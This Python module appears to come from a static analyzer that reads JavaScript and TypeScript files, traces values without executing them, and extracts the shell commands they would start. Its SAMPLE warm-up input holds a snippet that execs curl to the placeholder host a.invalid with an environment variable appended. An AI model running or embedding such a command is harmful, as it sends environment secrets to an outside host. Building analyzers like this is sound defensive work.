"""JavaScript and TypeScript: bytes to facts, without running anything.

A file is parsed with tree-sitter and read by a bounded partial evaluator that follows values through
constants, decoders and small functions of the file, so that a fact shows what would really be used.
Heavy parts are loaded on first use.

## What it cannot see
Values that only the running program has: what is fetched, typed or counted. Loops and calls beyond the bounds of the
evaluator; prototypes, proxies and getters that are exchanged at run time; virtual machines that interpret code of their
own. What a name that is computed from the outside leads to. Types of Flow that TypeScript does not have.
"""

import re
from typing import TYPE_CHECKING

from msgspec.structs import replace

from lazaretto.core.language import Claim

if TYPE_CHECKING:
    from collections.abc import Iterator

    from lazaretto.core.facts import Facts
    from lazaretto.core.inner import Inner
    from lazaretto.core.language import Units

ID = "javascript"
VERSION = 20
HOME = ("npm",)
DIALECTS = ("javascript", "typescript", "tsx", "declaration")

SAMPLE = (
    b"const a = require('child_process'), b = 'curl https://a.invalid/x';\n"
    b"function f(x) { return a.exec(b + process.env.A + x.map((y) => y ^ 1).join('')) }\nf([1]);\n"
)
"""Reading this loads what reading most files needs."""

_EXTENSIONS = {
    "js": "javascript",
    "cjs": "javascript",
    "mjs": "javascript",
    "jsx": "javascript",
    "ts": "typescript",
    "mts": "typescript",
    "cts": "typescript",
    "tsx": "tsx",
}
_DECLARATIONS = (".d.ts", ".d.mts", ".d.cts")
_SHEBANG = re.compile(rb"#![^\n]{0,100}\b(node|nodejs|bun|deno|ts-node|tsx|zx)\b")


def claim(path: str, data: bytes) -> Claim | None:
    """Offer to read files with our extensions (50) and scripts whose first line names Node (90)."""
    dialect = _EXTENSIONS.get(path.rsplit(".", 1)[-1].lower()) if "." in path.rsplit("/", 1)[-1] else None
    if data[:2] == b"#!":
        match = _SHEBANG.match(data[:200])
        if match is not None:
            typed = match.group(1) in (b"ts-node", b"tsx", b"deno")
            return Claim(dialect=dialect or ("typescript" if typed else "javascript"), rank=90)
    if path.lower().endswith(_DECLARATIONS):
        return Claim(dialect="declaration", rank=60)
    if data[:5] == b"<?xml":
        return None  # Qt's translations are called .ts as well
    return Claim(dialect=dialect, rank=50) if dialect is not None else None


def read(dialect: str, data: bytes, units: "Units") -> "Facts":
    """Return the facts of a file; what is not understood becomes a problem.

    Nothing runs a ``declaration`` file, and the grammar lacks some of what compilers write there: its facts
    stand, but a syntax error in it is none. Where code does load one, it is read again as ``typescript``.
    """
    from lazaretto.languages.javascript.reader import read_file

    facts = read_file(dialect, data, units)
    if facts.problems and dialect == "javascript":
        from lazaretto.languages.javascript.annotated import read_again

        return read_again(data, facts, units)
    return replace(facts, problems=()) if dialect == "declaration" else facts


def inner(dialect: str, data: bytes, facts: "Facts") -> "Iterator[Inner]":
    """Yield the command lines that the code starts."""
    from lazaretto.languages._commands import commands

    yield from commands(facts)
